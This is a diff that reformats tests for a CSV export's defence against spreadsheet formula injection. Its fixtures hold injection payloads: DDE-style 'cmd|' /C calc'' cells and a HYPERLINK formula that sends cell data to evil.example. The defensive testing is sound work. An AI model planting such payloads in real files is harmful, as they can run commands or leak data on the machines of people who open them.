@@ -18,7 +18,7 @@ describe('CSV cells a spreadsheet would run', () => {
   const tempDir = useTempDir();
 
   it('prefixes =, +, -, @, tab and CR with a quote; numbers in numeric columns stay numbers', () => {
-    for (const formula of ['=HYPERLINK("http://x","y")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1']) {
+    for (const formula of ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1']) {
       expect(neutraliseCell(formula, false)).toBe(`'${formula}`);
       expect(neutraliseCell(formula, true)).toBe(`'${formula}`);
     }
@@ -35,8 +35,15 @@ describe('CSV cells a spreadsheet would run', () => {
     // As a route file would bring them: an address, a register label and a serial with formulas.
     store.db.prepare(`UPDATE usage_points SET address = '=HYPERLINK("http://evil.example/?"&A1,"Open")' WHERE id = 'UP-1001'`).run();
     store.db.prepare(`UPDATE registers SET label = '@SUM(1+1)*cmd|'' /C calc''!A0'`).run();
-    store.db.prepare(`UPDATE end_devices SET serial_number = '+cmd|x' WHERE id = (SELECT end_device_id FROM reading_sets WHERE usage_point_id = 'UP-1001' LIMIT 1)`).run();
-    const readingId = store.db.prepare(`SELECT r.id FROM readings r JOIN reading_sets rs ON rs.id = r.reading_set_id WHERE rs.usage_point_id = 'UP-1002' LIMIT 1`).pluck().get() as number;
+    store.db
+      .prepare(
+        `UPDATE end_devices SET serial_number = '+cmd|x' WHERE id = (SELECT end_device_id FROM reading_sets WHERE usage_point_id = 'UP-1001' LIMIT 1)`,
+      )
+      .run();
+    const readingId = store.db
+      .prepare(`SELECT r.id FROM readings r JOIN reading_sets rs ON rs.id = r.reading_set_id WHERE rs.usage_point_id = 'UP-1002' LIMIT 1`)
+      .pluck()
+      .get() as number;
     store.db.prepare('UPDATE readings SET value = ? WHERE id = ?').run('-3.5', readingId);
     try {
       const { path } = await runExport(store, supervisor, 'csv', {}, join(dir, 'out.csv'));
@@ -50,7 +57,8 @@ describe('CSV cells a spreadsheet would run', () => {
       for (const r of rows) expect(r.register).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
       expect(rows.find((r) => r.reading_id === String(readingId))?.value).toBe('-3.5');
       // No cell of the file starts a formula.
-      for (const r of rows) for (const cell of Object.values(r)) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && cell !== '-3.5'), cell).toBe(false);
+      for (const r of rows)
+        for (const cell of Object.values(r)) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && cell !== '-3.5'), cell).toBe(false);
     } finally {
       store.close();
     }
